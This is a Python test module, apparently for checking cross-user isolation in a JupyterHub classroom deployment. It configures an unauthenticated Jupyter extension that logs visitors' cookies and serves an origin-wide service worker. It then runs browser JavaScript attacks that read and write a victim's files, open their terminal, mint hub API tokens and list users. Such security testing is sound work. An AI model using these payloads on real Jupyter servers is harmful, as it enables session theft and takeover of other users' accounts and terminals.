"""A student whose own server serves pages to whoever comes, and what such a page tries in its visitor's browser."""

from playwright.sync_api import Page

from room import Person

# For ~/.jupyter: pages that need no login, and a service worker that asks for the whole of its origin.
CONFIG = """
import sys
sys.path.insert(0, "/home/student")
c.ServerApp.jpserver_extensions = {"open_pages": True}
c.ServerApp.allow_unauthenticated_access = True
"""
PAGES = """
from tornado import web

class Open(web.RequestHandler):
    def get(self, name):
        with open("/home/student/seen", "a") as seen:
            seen.write(self.request.headers.get("Cookie", "") + chr(10))
        self.set_header("Service-Worker-Allowed", "/")
        script = name == "worker.js"
        self.set_header("Content-Type", "text/javascript" if script else "text/html")
        self.write("onfetch = e => e.respondWith(new Response('replaced'))" if script else "<h1>Free cake</h1>")

def _load_jupyter_server_extension(app):
    app.web_app.add_handlers(".*$", [(app.base_url + "open/(.*)", Open)])
"""

# Each resolves to a true value where the attack succeeded. to has the addresses of things, for the visitor's browser; use(page,
# path, method, body) opens a page in a window and asks with that page's token and origin.
ATTACKS = {
    "reads the visitor's files": "async to => (await use(`${to.server}lab`, `${to.server}api/contents/diary.txt`)).content !== undefined",
    "writes the visitor's files": """async to => {
        const body = {type: 'file', format: 'text', content: 'ivan was here'};
        return (await use(`${to.server}lab`, `${to.server}api/contents/diary.txt`, 'PUT', body)).path !== undefined;
    }""",
    "opens a terminal": "async to => (await use(`${to.server}lab`, `${to.server}api/terminals`, 'POST')).name !== undefined",
    "sits at the visitor's terminal": """to => new Promise(resolve => {
        const socket = new WebSocket(`${to.server.replace('http', 'ws')}terminals/websocket/${to.terminal}`);
        socket.onopen = () => resolve(true);
        socket.onerror = () => resolve(false);
    })""",
    "asks the hub as the visitor": "async to => (await use(`${to.hub}home`, `${to.hub}api/user`)).name === to.name",
    "makes a token": "async to => (await use(`${to.hub}home`, `${to.hub}api/users/${to.name}/tokens`, 'POST', {})).token !== undefined",
    "lists the class": "async to => (await use(`${to.hub}home`, `${to.hub}api/users`)).length > 1",
    "reads a page of the hub's": """async to => {
        const page = await fetch(`${to.hub}token`, {credentials: 'include'});
        return (await page.text()).includes('Request new API token');
    }""",
    "reads a page of the hub's in a window": "async to => Boolean(await open(`${to.hub}home`))",
    "registers a service worker for the whole origin": """async to => {
        const worker = new URL('worker.js', location.href).href;
        return Boolean(await navigator.serviceWorker.register(worker, {scope: '/'}));
    }""",
    "registers one for the hub's pages": """async to => {
        const worker = new URL('worker.js', location.href).href;
        return Boolean(await navigator.serviceWorker.register(worker, {scope: new URL(to.hub).pathname}));
    }""",
}

TRY = """async ([attacks, to]) => {
    async function open(url) {
        const opened = window.open(url);
        for (let i = 0; i < 400; i++) {
            await new Promise(resolve => setTimeout(resolve, 50));
            if (opened.location.href === url && opened.document.readyState === 'complete') return opened; // throws across origins
        }
    }
    async function use(page, url, method = 'GET', body) {
        const opened = await open(page);
        const headers = {'Content-Type': 'application/json', 'X-XSRFToken': /_xsrf=([^;]+)/.exec(opened.document.cookie)[1]};
        return await (await opened.fetch(url, {method, headers, body: body && JSON.stringify(body)})).json();
    }
    const succeeded = [];
    for (const [name, attack] of Object.entries(attacks)) {
        try { if (await eval(`(${attack})`)(to)) succeeded.push(name); } catch { }
    }
    return succeeded;
}"""


def serve(person: Person) -> None:
    """Starts the person's server with pages for everybody, at open/."""
    person.start()
    for name, content in (("open_pages.py", PAGES), (".jupyter/jupyter_server_config.py", CONFIG)):
        person.shell(f"mkdir -p ~/.jupyter && cat > ~/{name} <<'END'\n{content}\nEND")
    person.stop()
    person.start()


def attack(page: Page, victim: Person, terminal: str) -> list[str]:
    """The attacks of which the page that is open now is capable, in its visitor's browser."""
    room = victim.room
    to = {"name": victim.name, "hub": room.where("hub/"), "server": room.where(f"user/{victim.name}/"), "terminal": terminal}
    return page.evaluate(TRY, [ATTACKS, to])


def cookies_seen(person: Person) -> str:
    """The cookies that the open pages' visitors sent along."""
    return person.shell("cat ~/seen", check=False)
